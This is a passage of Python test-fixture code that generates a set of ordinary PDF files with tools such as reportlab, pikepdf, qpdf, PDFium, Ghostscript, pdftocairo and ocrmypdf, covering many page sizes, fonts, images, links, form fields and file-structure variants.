def photo(mode: str) -> Image.Image:
    image = Image.new(mode, (160, 90))
    pixels = ImageDraw.Draw(image)
    for x in range(0, 160, 8):
        pixels.rectangle([x, 0, x + 7, 89], fill=(x, 255 - x, 128) if mode == "RGB" else x)
    return image


def with_image(image_format: str, mode: str) -> Callable[[], bytes]:
    def draw(pdf):
        buffer = io.BytesIO()
        photo(mode).save(buffer, format=image_format)
        pdf.drawImage(ImageReader(io.BytesIO(buffer.getvalue())), 72, 400, width=320, height=180)

    return lambda: reportlab_pdf(draw=draw)


def with_links() -> bytes:
    def draw(pdf):
        pdf.linkURL("https://example.org/policy", (72, 600, 300, 620))
        pdf.bookmarkPage("top")
        pdf.addOutlineEntry("Top", "top")
        pdf.linkAbsolute("Top", "top", (72, 560, 300, 580))

    return reportlab_pdf(draw=draw)


def with_form_fields() -> bytes:
    def draw(pdf):
        pdf.acroForm.textfield(name=f"amount{pdf.getPageNumber()}", x=72, y=500, width=200)
        pdf.acroForm.checkbox(name=f"approved{pdf.getPageNumber()}", x=72, y=460)

    return reportlab_pdf(draw=draw)


def platypus_report() -> bytes:
    buffer = io.BytesIO()
    styles = getSampleStyleSheet()
    document = SimpleDocTemplate(buffer, pagesize=pagesizes.A4, invariant=1)
    document.build(
        [
            Paragraph(TEXT, styles["Title"]),
            Paragraph("Data is kept for thirty days and then deleted. " * 20, styles["Normal"]),
            Table([["Vendor", "Amount"], ["Acme", "125,000"], ["Flock", "9,000"]]),
        ]
    )
    return buffer.getvalue()


def handwritten_pdf(version: str, **options) -> Callable[[], bytes]:
    """A PDF put together object by object with pikepdf, as qpdf writes it."""

    def build() -> bytes:
        with pikepdf.new() as pdf:
            font = pdf.make_indirect(
                Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
            )
            for text in (TEXT, SECOND_PAGE):
                page = pdf.add_blank_page(page_size=(612, 792))
                page.Resources = Dictionary(Font=Dictionary(F1=font))
                page.Contents = pdf.make_stream(
                    b"BT /F1 12 Tf 72 720 Td (%s) Tj ET" % text.encode()
                )
            return saved(pdf, force_version=version, **options)

    return build


def rewritten(**options) -> Callable[[], bytes]:
    def build() -> bytes:
        with pikepdf.open(io.BytesIO(reportlab_pdf())) as pdf:
            return saved(pdf, **options)

    return build


def merged() -> bytes:
    with (
        pikepdf.new() as pdf,
        pikepdf.open(io.BytesIO(reportlab_pdf(pages=[TEXT]))) as first,
        pikepdf.open(io.BytesIO(reportlab_pdf(pages=[SECOND_PAGE]))) as second,
    ):
        pdf.pages.extend(first.pages)
        pdf.pages.extend(second.pages)
        return saved(pdf)


def pdfium_copy() -> bytes:
    source = pypdfium2.PdfDocument(reportlab_pdf())
    copy = pypdfium2.PdfDocument.new()
    try:
        copy.import_pages(source)
        buffer = io.BytesIO()
        copy.save(buffer)
        return buffer.getvalue()
    finally:
        copy.close()
        source.close()


POSTSCRIPT = b"""%!PS-Adobe-3.0
/Helvetica findfont 12 scalefont setfont
72 720 moveto (Surveillance use policy) show
showpage
/Times-Roman findfont 14 scalefont setfont
72 720 moveto (Retention schedule) show
showpage
"""


def ghostscript(
    *options: str, source: Callable[[], bytes] = lambda: POSTSCRIPT, source_name: str = "in.ps"
) -> Callable[[], bytes]:
    def build() -> bytes:
        return run_tool(
            [
                "gs",
                "-q",
                "-dNOPAUSE",
                "-dBATCH",
                "-dSAFER",
                "-sDEVICE=pdfwrite",
                *options,
                "-sOutputFile=out.pdf",
                source_name,
            ],
            source(),
            source_name,
        )

    return build


def cairo(source: Callable[[], bytes]) -> Callable[[], bytes]:
    return lambda: run_tool(["pdftocairo", "-pdf", "in.pdf", "out.pdf"], source())


def scanned_page() -> bytes:
    """A page that is only a picture of text, as a scanner without OCR makes it."""
    image = Image.new("L", (1700, 2200), 255)
    font = ImageFont.truetype(str(FONTS / "DejaVuSans.ttf"), 64)
    ImageDraw.Draw(image).text((150, 200), TEXT, fill=0, font=font)
    buffer = io.BytesIO()
    image.save(buffer, format="PDF", resolution=200)
    return buffer.getvalue()


def ocrmypdf(*options: str) -> Callable[[], bytes]:
    return lambda: run_tool(
        ["ocrmypdf", "--quiet", "--jobs", "1", "--optimize", "0", *options, "in.pdf", "out.pdf"],
        scanned_page(),
    )


def reportlab_variants() -> list[OrdinaryPdf]:
    return [
        OrdinaryPdf("reportlab, letter, Helvetica, compressed", reportlab_pdf, TEXT),
        OrdinaryPdf("reportlab, letter, uncompressed", lambda: reportlab_pdf(compress=False), TEXT),
        OrdinaryPdf(
            "reportlab, A4, Times-Roman",
            lambda: reportlab_pdf(pagesize=pagesizes.A4, font=("Times-Roman", 14)),
            TEXT,
        ),
        OrdinaryPdf(
            "reportlab, legal, Courier",
            lambda: reportlab_pdf(pagesize=pagesizes.legal, font=("Courier", 10)),
            TEXT,
        ),
        OrdinaryPdf(
            "reportlab, A3 landscape",
            lambda: reportlab_pdf(pagesize=pagesizes.landscape(pagesizes.A3)),
            TEXT,
        ),
        OrdinaryPdf(
            "reportlab, A5, Helvetica-Bold",
            lambda: reportlab_pdf(pagesize=pagesizes.A5, font=("Helvetica-Bold", 9)),
            TEXT,
        ),
        OrdinaryPdf(
            "reportlab, 4 x 6 inch card",
            lambda: reportlab_pdf(pagesize=(4 * 72, 6 * 72), font=("Helvetica", 8)),
            TEXT,
        ),
        OrdinaryPdf(
            "reportlab, embedded TrueType (DejaVu Sans), accented text",
            lambda: reportlab_pdf(
                pages=["Überwachung café policy", SECOND_PAGE],
                font=(register_font("DejaVuSans", "DejaVuSans.ttf"), 12),
            ),
            "Überwachung café policy",
        ),
        OrdinaryPdf(
            "reportlab, embedded TrueType (DejaVu Serif), uncompressed",
            lambda: reportlab_pdf(
                font=(register_font("DejaVuSerif", "DejaVuSerif.ttf"), 11), compress=False
            ),
            TEXT,
        ),
        OrdinaryPdf("reportlab, JPEG photo", with_image("JPEG", "RGB"), TEXT),
        OrdinaryPdf("reportlab, PNG greyscale image", with_image("PNG", "L"), TEXT),
        OrdinaryPdf(
            "reportlab, six pages",
            lambda: reportlab_pdf(pages=[TEXT, *(f"Section {n}" for n in range(2, 7))]),
            TEXT,
        ),
        OrdinaryPdf("reportlab, web link, internal link and bookmark", with_links, TEXT),
        OrdinaryPdf("reportlab, AcroForm text field and checkbox", with_form_fields, TEXT),
        OrdinaryPdf("reportlab platypus, paragraphs and a table", platypus_report, TEXT),
    ]


ORDINARY = [
    *reportlab_variants(),
    OrdinaryPdf("pikepdf, hand-built, PDF 1.4", handwritten_pdf("1.4"), TEXT),
    OrdinaryPdf("pikepdf, hand-built, PDF 1.7", handwritten_pdf("1.7"), TEXT),
    OrdinaryPdf(
        "pikepdf, hand-built, object streams",
        handwritten_pdf("1.7", object_stream_mode=pikepdf.ObjectStreamMode.generate),
        TEXT,
    ),
    OrdinaryPdf("qpdf, linearized", rewritten(linearize=True), TEXT),
    OrdinaryPdf(
        "qpdf, object streams, PDF 1.5",
        rewritten(object_stream_mode=pikepdf.ObjectStreamMode.generate, min_version="1.5"),
        TEXT,
    ),
    OrdinaryPdf("qpdf, QDF mode", rewritten(qdf=True), TEXT),
    OrdinaryPdf("qpdf, streams uncompressed", rewritten(compress_streams=False), TEXT),
    OrdinaryPdf(
        "qpdf, streams recompressed",
        rewritten(recompress_flate=True, stream_decode_level=pikepdf.StreamDecodeLevel.generalized),
        TEXT,
    ),
    OrdinaryPdf("pikepdf, pages merged from two files", merged, TEXT),
    OrdinaryPdf("PDFium, pages imported into a new document", pdfium_copy, TEXT),
    OrdinaryPdf("cairo (pdftocairo), from reportlab", cairo(reportlab_pdf), TEXT),
    OrdinaryPdf("cairo (pdftocairo), from a platypus report", cairo(platypus_report), TEXT),
    OrdinaryPdf(
        "Ghostscript's ps2pdf",
        lambda: run_tool(["ps2pdf", "in.ps", "out.pdf"], POSTSCRIPT, "in.ps"),
        TEXT,
    ),
    OrdinaryPdf("Ghostscript, PDF 1.4", ghostscript("-dCompatibilityLevel=1.4"), TEXT),
    OrdinaryPdf(
        "Ghostscript, /screen settings, from reportlab",
        ghostscript("-dPDFSETTINGS=/screen", source=reportlab_pdf, source_name="in.pdf"),
        TEXT,
    ),
    OrdinaryPdf(
        "Ghostscript, PDF 1.7, from a platypus report",
        ghostscript("-dCompatibilityLevel=1.7", source=platypus_report, source_name="in.pdf"),
        TEXT,
    ),
    OrdinaryPdf("ocrmypdf, a scan with a text layer", ocrmypdf("--output-type", "pdf"), "policy"),
    OrdinaryPdf("ocrmypdf, PDF/A-2b", ocrmypdf("--output-type", "pdfa-2"), "policy"),
]
